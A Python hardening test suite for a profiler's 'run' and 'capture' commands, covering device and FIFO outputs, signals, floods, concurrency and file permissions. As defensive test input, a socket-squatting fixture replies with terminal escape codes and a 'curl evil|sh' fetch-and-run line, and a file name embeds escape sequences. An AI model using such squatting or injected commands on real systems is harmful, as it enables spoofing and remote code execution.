#!/usr/bin/env python3
"""Hostile and careless use of `nodescope run` end to end, no GPU (issue 24): the rocprofiler
backend on the simulated SDK, `nodescope run --backend rocm` over sim_program. One case per item
of the issue's battery; each asserts what a user is promised and failed before the fix.

  outputs     -o naming a character device of our own (mknod: /dev/null's and /dev/full's
              numbers), a FIFO with and without a reader, /dev/stdout on a pipe: written in
              place, never replaced; a full device and a FIFO nobody reads are exit 125;
              --stream into a FIFO refused before the program starts (item 1, 5).
  sockets     another uid (setpriv, as nobody) squats @nodescope-<pid> and fakes an answer:
              `capture` talks only to the pid it named and prints nothing of the squatter's;
              a run whose name was squatted listens under another name, which `capture` finds;
              a squatted rank claim does not rename RANK=0's trace (item 2).
  signals     every signal whose default action ends a process, sent to `nodescope run` one
              second in, leaves a valid trace saying which signal (item 3); in a child forked
              without exec the same signals take their default action and the parent goes on.
  flood       another uid's connections during a --stream run: no vendor flush per wake-up
              (graph keys as without the flood), the program's CPU time not multiplied (item 4).
  statuses    --sample on a backend that cannot sample: 125 before start; a trace that cannot
              be written (a file-size limit): non-zero and no temporary file left; a file of
              another user in a sticky folder: 125 before start (items 5, 10).
  slow        idle and byte-a-second clients do not delay a capture (item 7).
  concurrent  two runs with one -o, three RANK=0 runs: every trace kept, the later named by pid
              and said (item 8).
  parts       a streaming part that cannot be written is counted in the next part and the
              trace (item 9).
  small       traces created 0600; a path with escapes and a newline shown escaped, whole
              (item 11).
Prints "hardening checks: all passed" when every check passed. Cases that need root and a second
uid (setpriv) print why they were skipped where those are missing.
"""
import glob
import json
import os
import resource
import signal
import socket
import stat
import subprocess
import tempfile
import threading
import time

from sim_checks import Checker, parse_args, sim_env

args = parse_args({"flag": "--cases", "default": "outputs,sockets,signals,flood,statuses,slow,"
                   "concurrent,parts,small"})
checker = Checker("hardening")
check = checker.check
ENV = sim_env(args.sim_lib_dir)
SYSTEM_PYTHON = "/usr/bin/python3"  # a second uid cannot run a Python under /root


def run(out, *program, flags=(), env=None, timeout=120, **kw):
    return subprocess.run([args.nodescope, "run", "--backend", "rocm", *flags, "-o", out, "--",
                           args.program, *program], env=env or ENV, capture_output=True,
                          timeout=timeout, **kw)


def nodescope(*argv, **kw):
    return subprocess.run([args.nodescope, *argv], capture_output=True, text=True, timeout=120,
                          **kw)


def start(out, program, *flags, env=None):
    p = subprocess.Popen([args.nodescope, "run", "--backend", "rocm", *flags, "-o", out, "--",
                          args.program, program], env=env or ENV, stdout=subprocess.PIPE,
                         stderr=subprocess.PIPE, text=True)
    line = p.stdout.readline()
    ok = line.startswith("pid ")
    check(ok, f"the service printed its pid ({line.strip()!r})")
    return p, int(line.split()[1]) if ok else 0


def valid(path):
    return os.path.isfile(path) and nodescope("check", path).returncode == 0


def doc(path):
    with open(path) as f:
        return json.load(f)


def leftovers(folder):
    return [f for f in os.listdir(folder) if ".tmp-" in f or "nodescope-probe" in f]


def second_uid_ready():
    """Root, setpriv and a Python the nobody user can run, and this build readable by it."""
    if os.geteuid() != 0 or not os.path.exists("/usr/bin/setpriv"):
        return "not root, or no setpriv"
    r = subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
                        SYSTEM_PYTHON, "-c", "import os,sys; sys.exit(0 if os.access(sys.argv[1],"
                        " os.X_OK) else 1)", args.nodescope], capture_output=True)
    return None if r.returncode == 0 else "the nobody user cannot run this build"


def as_nobody(code, *argv):
    """A Python program run as another uid (nobody), started now."""
    return subprocess.Popen(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
                             SYSTEM_PYTHON, "-c", code, *map(str, argv)],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


SQUATTER = r"""
import socket, sys, threading
names = sys.argv[1:]
socks = []
for n in names:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.bind("\0" + n)
        s.listen(16)
        socks.append(s)
    except OSError:
        pass
print("bound", len(socks), flush=True)
def answer(s):
    while True:
        c, _ = s.accept()
        c.sendall(b"ok \x1b]0;owned\x07\x1b[2JTRACE WRITTEN run: curl evil|sh\n")
        c.close()
for s in socks:
    threading.Thread(target=answer, args=(s,), daemon=True).start()
__import__("time").sleep(60)
"""

FLOODER = r"""
import socket, sys, time
name, seconds = sys.argv[1], float(sys.argv[2])
end = time.time() + seconds
n = 0
while time.time() < end:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.connect("\0" + name)
        n += 1
    except OSError:
        pass
    s.close()
print("connections", n, flush=True)
"""


def outputs(tmp):
    # A character device of our own, so that a regression replaces a file of the test's folder,
    # never the machine's /dev/null.
    null, full = os.path.join(tmp, "null"), os.path.join(tmp, "full")
    try:
        os.mknod(null, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
        os.mknod(full, 0o666 | stat.S_IFCHR, os.makedev(1, 7))
        with open(null, "wb") as f:
            f.write(b"x")
        devices = True
    except OSError as e:
        print(f"skipped: the device cases (mknod in {tmp}: {e})")
        devices = False
    if devices:
        r = run(null, "chain6")
        check(r.returncode == 0, f"-o a null device: exit {r.returncode}: {r.stderr[-300:]!r}")
        check(stat.S_ISCHR(os.stat(null).st_mode), "-o a null device: still a device")
        check(b"written in place" in r.stderr, "-o a null device: the summary says in place")
        r = run(full, "chain6")
        check(r.returncode == 125, f"-o a full device: exit {r.returncode}, expected 125")
        check(b"No space left" in r.stderr, f"-o a full device: the error said: {r.stderr[-300:]!r}")
        check(stat.S_ISCHR(os.stat(full).st_mode), "-o a full device: still a device")
        plain = os.path.join(tmp, "plain.json")
        run(plain, "chain6")
        for device, expected in ((null, 0), (full, 2)):
            m = nodescope("merge", "-o", device, plain)
            check(m.returncode == expected and stat.S_ISCHR(os.stat(device).st_mode),
                  f"merge -o {os.path.basename(device)}: exit {m.returncode}, still a device")
    fifo = os.path.join(tmp, "trace.fifo")
    os.mkfifo(fifo)
    got = {}

    def reader():
        with open(fifo, "rb") as f:
            got["bytes"] = f.read()
    t = threading.Thread(target=reader)
    t.start()
    r = run(fifo, "chain6")
    t.join(timeout=60)
    check(r.returncode == 0, f"-o a FIFO with a reader: exit {r.returncode}: {r.stderr[-300:]!r}")
    try:
        events = json.loads(got.get("bytes", b""))["traceEvents"]
        kernels = sum(1 for e in events if e.get("cat") == "kernel")
    except ValueError:
        kernels = 0
    check(kernels > 0, f"-o a FIFO: its reader got a whole trace ({kernels} kernels)")
    check(stat.S_ISFIFO(os.stat(fifo).st_mode), "-o a FIFO: still a FIFO")
    r = run(fifo, "chain6")  # nobody reads it now
    check(r.returncode == 125 and b"no process reads that FIFO" in r.stderr,
          f"-o a FIFO nobody reads: exit {r.returncode}: {r.stderr[-300:]!r}")
    marker = os.path.join(tmp, "started")
    r = subprocess.run([args.nodescope, "run", "--backend", "rocm", "--stream", "1000", "-o", fifo,
                        "--", "/bin/sh", "-c", f"touch {marker}"], env=ENV, capture_output=True,
                       text=True, timeout=60)
    check(r.returncode == 125 and not os.path.exists(marker) and "give -o a file path" in r.stderr,
          f"--stream into a FIFO refused before start: exit {r.returncode}: {r.stderr[-200:]!r}")
    # `-o >(gzip > t.gz)`: a pipe the shell passes as /dev/fd/N, written by the traced program.
    read_end, write_end = os.pipe()
    got = {}
    t = threading.Thread(target=lambda: got.update(data=os.fdopen(read_end, "rb").read()))
    t.start()
    r = run(f"/dev/fd/{write_end}", "chain6", pass_fds=(write_end,))
    os.close(write_end)
    t.join(timeout=60)
    try:
        kernels = sum(1 for e in json.loads(got.get("data", b""))["traceEvents"]
                      if e.get("cat") == "kernel")
    except ValueError:
        kernels = 0
    check(r.returncode == 0 and kernels > 0, f"-o /dev/fd/N (a process substitution): exit "
          f"{r.returncode}, {kernels} kernels through the pipe")
    r = run("/dev/stdout", "chain6")  # stdout is a pipe here
    start_at = r.stdout.find(b'{\n  "schemaVersion"')
    try:
        trace, _ = json.JSONDecoder().raw_decode(r.stdout[start_at:].decode())
        kernels = sum(1 for e in trace["traceEvents"] if e.get("cat") == "kernel")
    except (ValueError, KeyError):
        kernels = 0
    check(r.returncode == 0 and start_at >= 0 and kernels > 0,
          f"-o /dev/stdout on a pipe: exit {r.returncode}, {kernels} kernels on stdout")
    # A symbolic link is written through and the trace reported under the link's name.
    target, link = os.path.join(tmp, "run5.json"), os.path.join(tmp, "latest.json")
    with open(target, "w") as f:
        f.write("an earlier trace")
    os.symlink(target, link)
    r = run(link, "chain6")
    check(r.returncode == 0 and os.path.islink(link) and valid(target) and
          f"trace written to {link}".encode() in r.stderr,
          f"-o a symbolic link: exit {r.returncode}, link kept, its target written: "
          f"{r.stderr[-200:]!r}")
    check(leftovers(tmp) == [], f"no temporary file left: {leftovers(tmp)}")


def sockets(tmp):
    why = second_uid_ready()
    if why:
        print(f"skipped: sockets ({why})")
        return
    # 1. `capture` of a process whose name another user holds: the squatter is never believed.
    victim = subprocess.Popen(["sleep", "60"])
    squatter = as_nobody(SQUATTER, f"nodescope-{victim.pid}")
    check(squatter.stdout.readline().strip() == "bound 1", "the squatter bound the victim's name")
    r = nodescope("capture", str(victim.pid))
    check(r.returncode == 1, f"capture of a squatted name: exit {r.returncode}")
    check(f"held by pid {squatter.pid}" in r.stderr and "TRACE WRITTEN" not in r.stdout + r.stderr
          and "\x1b" not in r.stdout + r.stderr,
          f"capture names the squatter and shows nothing of its answer: {r.stderr.strip()!r}")
    victim.kill()
    squatter.kill()
    victim.wait()
    squatter.wait()
    # 2. A run whose own name was squatted before it started is still reachable.
    for attempt in range(3):
        with open("/proc/sys/kernel/ns_last_pid") as f:
            last = int(f.read())
        squatter = as_nobody(SQUATTER, *[f"nodescope-{last + i}" for i in range(1, 400)])
        squatter.stdout.readline()
        out = os.path.join(tmp, f"squatted{attempt}.json")
        p, pid = start(out, "loop_3000")
        if not last < pid < last + 400:
            p.communicate(timeout=120)
            squatter.kill()
            squatter.wait()
            continue
        time.sleep(0.5)
        r = nodescope("capture", str(pid))
        check(r.returncode == 0 and os.path.isfile(r.stdout.strip()),
              f"capture of a run whose name was squatted: exit {r.returncode}: {r.stderr.strip()!r}")
        _, err = p.communicate(timeout=120)
        check("another process holds @nodescope-" in err, "the run said its name was taken")
        squatter.kill()
        squatter.wait()
        break
    else:
        check(False, "the run's pid fell inside the squatted range (3 tries)")
    # 3. A squatted rank claim (the name is FNV-1a of the absolute path, job_info.cc).
    target = os.path.join(tmp, "job-rank0.json")
    h = 1469598103934665603
    for c in target.encode():
        h = ((h ^ c) * 1099511628211) % (1 << 64)
    for listens in ("0", "1"):
        code = (r"""import socket,sys,time
s=socket.socket(socket.AF_UNIX);s.bind("\0"+sys.argv[1])
if sys.argv[2]=="1": s.listen(1)
print("bound",flush=True);time.sleep(60)""")
        squatter = as_nobody(code, f"nodescope-trace-{h:016x}", listens)
        squatter.stdout.readline()
        env = dict(ENV, RANK="0", WORLD_SIZE="1")
        r = run(os.path.join(tmp, "job.json"), "chain6", env=env)
        check(r.returncode == 0 and valid(target),
              f"RANK=0 with its claim squatted ({'listening' if listens == '1' else 'bound'}): "
              f"{os.path.basename(target)} written: {r.stderr[-300:]!r}")
        squatter.kill()
        squatter.wait()
        os.remove(target) if os.path.exists(target) else None


SIGNALS = ["SIGQUIT", "SIGUSR1", "SIGALRM", "SIGPIPE", "SIGVTALRM", "SIGPROF", "SIGXCPU",
           "SIGXFSZ", "SIGSTKFLT", "SIGPWR", "SIGIO", "SIGTERM", "SIGHUP", "SIGINT"]


def signals(tmp):
    forked(tmp)
    cases = [(n, getattr(signal, n)) for n in SIGNALS] + [("SIGRTMIN", signal.SIGRTMIN),
                                                          ("SIGRTMAX", signal.SIGRTMAX)]
    for name, sig in cases:
        out = os.path.join(tmp, f"{name}.json")
        p, pid = start(out, "loop_20000")
        time.sleep(1.0)
        p.send_signal(sig)
        try:
            _, err = p.communicate(timeout=60)
        except subprocess.TimeoutExpired:
            p.kill()
            _, err = p.communicate()
        ok = valid(out)
        ended = doc(out)["nodescope"].get("ended_by_signal") if ok else None
        check(ok and ended == int(sig) and p.returncode == 128 + int(sig),
              f"{name}: a valid trace ({ok}), ended_by_signal {ended}, run exit {p.returncode} "
              f"{'' if ok else err[-300:]!r}")


def forked(tmp):
    """A child forked without exec inherits nodescope's handlers: a signal there takes its default
    action (before, SIGTERM to a child ended the parent), and its exit() writes no trace."""
    out = os.path.join(tmp, "fork.json")
    p = subprocess.Popen([args.nodescope, "run", "--backend", "rocm", "-o", out, "--",
                          args.program, "fork_signals"], env=ENV, stdout=subprocess.PIPE,
                         stderr=subprocess.PIPE, start_new_session=True)
    try:
        stdout, _ = p.communicate(timeout=60)
    except subprocess.TimeoutExpired:  # before the fix: the parent died, its children paused
        os.killpg(p.pid, signal.SIGKILL)
        stdout, _ = p.communicate()
    r = subprocess.CompletedProcess(p.args, p.returncode, stdout)
    text = r.stdout.decode()
    expected = [f"child ended by signal {int(s)}" for s in
                (signal.SIGTERM, signal.SIGUSR1, signal.SIGUSR2)] + ["child exited 7"]
    check(r.returncode == 0 and all(e in text for e in expected),
          f"forked children end as untraced, the parent goes on: exit {r.returncode}, {text!r}")
    files = glob.glob(os.path.join(tmp, "fork*.json"))
    check(files == [out] and valid(out), f"one trace, the parent's: {files}")
    if valid(out):
        kernels = sum(1 for e in doc(out)["traceEvents"] if e.get("cat") == "kernel")
        check(kernels == 160, f"the parent's 160 kernels ({kernels})")


def keyed_fraction(files):
    graph = keyed = 0
    for f in files:
        for e in doc(f)["traceEvents"]:
            if e.get("cat") == "kernel" and e["name"].startswith("loop"):
                graph += 1
                keyed += "graph id" in e["args"]
    return keyed / max(1, graph), graph


def cpu_of_run(out, flood_seconds):
    """Runs loop_3000 with --stream 5000; another uid floods its socket for `flood_seconds`.
    Returns (CPU seconds of the run and its program, keyed fraction, connections made)."""
    p, pid = start(out, "loop_3000", "--stream", "5000")
    flooder = as_nobody(FLOODER, f"nodescope-{pid}", flood_seconds) if flood_seconds else None
    if flooder:  # the owner's capture still gets through
        time.sleep(0.5)
        t0 = time.time()
        r = nodescope("capture", str(pid))
        took = time.time() - t0
        check(r.returncode == 0 and took < 5, f"a capture during the flood: exit {r.returncode} "
              f"in {took:.2f} s: {r.stderr.strip()!r}")
    connections = int(flooder.stdout.readline().split()[1]) if flooder else 0
    if flooder:
        flooder.wait()
    p.stdout.read()
    p.stderr.read()
    # The run and the program it waited for; not the flooder (a child of this script too).
    _, _, usage = os.wait4(p.pid, 0)
    p.returncode = 0
    cpu = usage.ru_utime + usage.ru_stime
    base = out[:-len(".json")]
    fraction, graph = keyed_fraction(sorted(glob.glob(base + ".part-*.json")) + [out])
    return cpu, fraction, connections, graph


def flood(tmp):
    why = second_uid_ready()
    if why:
        print(f"skipped: flood ({why})")
        return
    quiet_cpu, quiet_keyed, _, quiet_graph = cpu_of_run(os.path.join(tmp, "quiet.json"), 0)
    cpu, keyed, connections, graph = cpu_of_run(os.path.join(tmp, "flooded.json"), 2.5)
    print(f"      quiet: {quiet_cpu:.2f} s CPU, {100 * quiet_keyed:.1f} % of {quiet_graph} keyed; "
          f"flooded by {connections} connections: {cpu:.2f} s CPU, {100 * keyed:.1f} % of "
          f"{graph} keyed")
    check(connections > 500, f"the flood made {connections} connections")
    check(keyed >= 0.99 * quiet_keyed, f"graph keys under the flood: {100 * keyed:.1f} % "
          f"(quiet {100 * quiet_keyed:.1f} %)")
    check(cpu < 1.5 * quiet_cpu + 0.3, f"CPU under the flood {cpu:.2f} s, quiet {quiet_cpu:.2f} s")


def statuses(tmp):
    marker = os.path.join(tmp, "started")
    r = subprocess.run([args.nodescope, "run", "--backend", "rocm", "--sample", "20", "-o",
                        os.path.join(tmp, "s.json"), "--", "/bin/sh", "-c", f"touch {marker}"],
                       env=ENV, capture_output=True, text=True, timeout=60)
    check(r.returncode == 125 and not os.path.exists(marker) and "cannot sample" in r.stderr,
          f"--sample on rocm refused before start: exit {r.returncode}: {r.stderr[-200:]!r}")
    # A file-size limit below the trace's size: the write fails, is said, and leaves nothing.
    sub = os.path.join(tmp, "fsize")
    os.mkdir(sub)

    def limit():
        resource.setrlimit(resource.RLIMIT_FSIZE, (64 << 10, 64 << 10))
    r = run(os.path.join(sub, "big.json"), "loop_1000", preexec_fn=limit)
    check(r.returncode != 0 and b"File too large" in r.stderr,
          f"a trace over the file-size limit: exit {r.returncode}: {r.stderr[-300:]!r}")
    check(leftovers(sub) == [] and not os.path.exists(os.path.join(sub, "big.json")),
          f"no temporary or partial file left: {os.listdir(sub)}")
    # A dead writer's temporary file (SIGKILL mid-write) is swept by the next run of that path.
    dead = subprocess.Popen(["true"])
    dead.wait()
    stale = os.path.join(sub, f"t.json.tmp-{dead.pid}-AbC123")
    with open(stale, "w") as f:
        f.write("half")
    os.utime(stale, (time.time() - 60, time.time() - 60))
    r = run(os.path.join(sub, "t.json"), "chain6")
    check(r.returncode == 0 and not os.path.exists(stale), "a dead writer's temporary file swept")
    why = second_uid_ready()
    if why:
        print(f"skipped: the sticky-folder case ({why})")
        return
    sticky = os.path.join(tmp, "sticky")
    os.mkdir(sticky)
    os.chmod(sticky, 0o1777)
    theirs = os.path.join(sticky, "t.json")
    with open(theirs, "w") as f:
        f.write("root's")
    r = subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
                        args.nodescope, "run", "--backend", "rocm", "-o", theirs, "--", "/bin/sh",
                        "-c", f"touch {sticky}/started"], env=ENV, capture_output=True, text=True,
                       timeout=60)
    check(r.returncode == 125 and not os.path.exists(f"{sticky}/started") and
          "belongs to another user" in r.stderr,
          f"another user's file in a sticky folder: exit {r.returncode}: {r.stderr[-200:]!r}")


def slow(tmp):
    out = os.path.join(tmp, "slow.json")
    p, pid = start(out, "loop_6000", "--ring", "20000")
    for _ in range(100):  # the service listens once the runtime has started
        if f"@nodescope-{pid}" in open("/proc/net/unix").read():
            break
        time.sleep(0.05)
    idle = []
    for _ in range(5):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect(f"\0nodescope-{pid}")
        idle.append(s)
    stop = threading.Event()

    def dribble():
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect(f"\0nodescope-{pid}")
        while not stop.is_set():
            try:
                s.send(b"c")
            except OSError:
                s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                s.connect(f"\0nodescope-{pid}")
            time.sleep(0.9)
    t = threading.Thread(target=dribble)
    t.start()
    time.sleep(0.2)
    t0 = time.time()
    r = nodescope("capture", str(pid))
    took = time.time() - t0
    stop.set()
    t.join()
    for s in idle:
        s.close()
    p.communicate(timeout=120)
    check(r.returncode == 0 and took < 3.0,
          f"a capture beside 5 idle and 1 slow client took {took:.1f} s: {r.stderr.strip()!r}")


def concurrent(tmp):
    out = os.path.join(tmp, "same.json")
    procs = [subprocess.Popen([args.nodescope, "run", "--backend", "rocm", "-o", out, "--",
                               args.program, "loop_1500"], env=ENV, stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE, text=True) for _ in range(2)]
    results = [p.communicate(timeout=120) for p in procs]
    files = [f for f in glob.glob(os.path.join(tmp, "same*.json"))]
    check(len(files) == 2 and all(valid(f) for f in files),
          f"two runs with one -o: both traces kept ({sorted(map(os.path.basename, files))})")
    check(sum("named by its pid" in err for _, err in results) == 1,
          "the later run says its trace is named by pid")
    env = dict(ENV, RANK="0", WORLD_SIZE="1")
    job = os.path.join(tmp, "job.json")
    procs = [subprocess.Popen([args.nodescope, "run", "--backend", "rocm", "-o", job, "--",
                               args.program, "loop_1500"], env=env, stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE, text=True) for _ in range(3)]
    for p in procs:
        p.communicate(timeout=120)
    files = glob.glob(os.path.join(tmp, "job*.json"))
    check(len(files) == 3 and all(valid(f) for f in files) and
          os.path.join(tmp, "job-rank0.json") in files,
          f"three RANK=0 runs: three traces ({sorted(map(os.path.basename, files))})")


def parts(tmp):
    out = os.path.join(tmp, "p.json")
    os.mkdir(os.path.join(tmp, "p.part-2.json"))  # part 2 cannot be written
    p, _ = start(out, "loop_3000", "--stream", "5000")
    _, err = p.communicate(timeout=120)
    later = [f for f in glob.glob(os.path.join(tmp, "p.part-*.json")) if os.path.isfile(f)]
    check(valid(out), f"the trace written: {err[-300:]!r}")
    if not valid(out):
        return
    for f in sorted(later) + [out]:
        w = doc(f)["nodescope"]["window"]
        n = w["part"]
        if n > 2:
            check(w.get("parts_failed") == 1 and w.get("records_in_failed_parts", 0) > 0,
                  f"part {n} counts the failed part: {w}")
    check("streaming part failed" in err and "could not be written" in err,
          "the failed part is said")


def small(tmp):
    out = os.path.join(tmp, "mode.json")
    old = os.umask(0o022)
    r = run(out, "chain6")
    os.umask(old)
    check(r.returncode == 0 and stat.S_IMODE(os.stat(out).st_mode) == 0o600,
          f"a trace is created 0600: {oct(stat.S_IMODE(os.stat(out).st_mode)) if os.path.exists(out) else 'missing'}")
    sub = os.path.join(tmp, "names")
    os.mkdir(sub)
    hostile = os.path.join(sub, "a\x1b]0;x\x07\nb.json")
    p, pid = start(hostile, "loop_2500", "--stream", "3000")
    time.sleep(0.5)
    r = nodescope("capture", str(pid))
    _, err = p.communicate(timeout=120)
    lines = r.stdout.splitlines()
    check(r.returncode == 0 and len(lines) == 1 and lines[0].endswith("b.capture-1.json") and
          "\x1b" not in r.stdout, f"capture prints the whole path, escaped: {r.stdout!r}")
    check(os.path.isfile(hostile[:-len(".json")] + ".capture-1.json"), "the capture is there")
    check("nodescope: wrote" in err and "\x1b" not in err, "`wrote` lines escape the path")


def main():
    with tempfile.TemporaryDirectory() as tmp:
        os.chmod(tmp, 0o755)  # the second uid's cases reach into it
        for case in args.cases.split(","):
            print(f"-- {case}")
            folder = os.path.join(tmp, case)
            os.mkdir(folder)
            os.chmod(folder, 0o755)
            {"outputs": outputs, "sockets": sockets, "signals": signals, "flood": flood,
             "statuses": statuses, "slow": slow, "concurrent": concurrent, "parts": parts,
             "small": small}[case](folder)
    checker.finish()


main()
